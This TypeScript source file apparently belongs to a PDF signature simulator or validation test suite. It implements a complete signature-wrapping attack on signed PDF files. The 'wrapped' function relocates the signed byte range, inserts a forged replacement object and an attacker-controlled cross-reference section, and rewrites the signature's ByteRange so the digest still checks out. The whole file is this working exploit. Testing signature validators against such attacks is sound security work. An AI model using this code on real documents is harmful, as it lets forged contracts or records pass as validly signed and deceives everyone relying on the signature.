import { PdfFile } from '../../simulator/signatures/formats/pdf/file.ts';
import {
  coverageOf,
  findSignatures,
} from '../../simulator/signatures/validation/pdf/find-signatures.ts';

/**
 * Signature wrapping: moves the second part of the signed bytes towards the end, and puts the
 * attacker's cross-reference section where the original `startxref` leads. The digest is correct.
 * @param forged bytes of an object that replaces the one with this number
 */
export function wrapped(bytes: Uint8Array, number: number, forged: string): Uint8Array {
  const file = new PdfFile(bytes);
  const found = findSignatures(file).at(-1);
  const coverage = found && coverageOf(file, found);
  const section = file.sections[0];
  if (!coverage || !section) throw new Error('a file without a signature');
  const [start, end] = coverage.gap;
  const tail = Buffer.from(bytes.subarray(end));
  const parts: Buffer[] = [];
  let at = end;
  const push = (text: string) => {
    parts.push(Buffer.from(text, 'latin1'));
    at += text.length;
  };
  const places = new Map<number, number>();
  // Comments fill the bytes up to the expected position of the section.
  push('\n>>\nendobj\n');
  const room = section.offset - at;
  if (room > 0) push(`%${' '.repeat(room - 2)}\n`);
  const text = Buffer.from(bytes.subarray(start, end)).toString('latin1');
  const objectAt = at + 20_000;
  places.set(number, objectAt);
  const holderAt = objectAt + forged.length + 40;
  places.set(found.holder, holderAt);
  // All objects after the gap have moved back.
  const moved = holderAt + text.length + 1_000 - end;
  for (const [own, place] of file.places) {
    if (places.has(own) || place.kind !== 'plain') continue;
    places.set(own, place.offset < start ? place.offset : place.offset + moved);
  }
  const lines = [...places]
    .map(([own, place]) => `${own} 1\n${String(place).padStart(10, '0')} 00000 n \n`)
    .join('');
  push(`xref\n${lines}trailer\n<</Size ${file.nextNumber}/Root 1 0 R>>\n`);
  const fill = (to: number) => push(' '.repeat(to - at));
  fill(objectAt);
  push(`${number} 0 obj\n${forged}\nendobj\n`);
  fill(holderAt);
  push(
    `${found.holder} 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/${found.subFilter}/ByteRange[0 ${start} ${end + moved} ${tail.length}]/Contents${text}>>\nendobj\n`,
  );
  fill(end + moved);
  return Buffer.concat([bytes.subarray(0, end), ...parts, tail]);
}
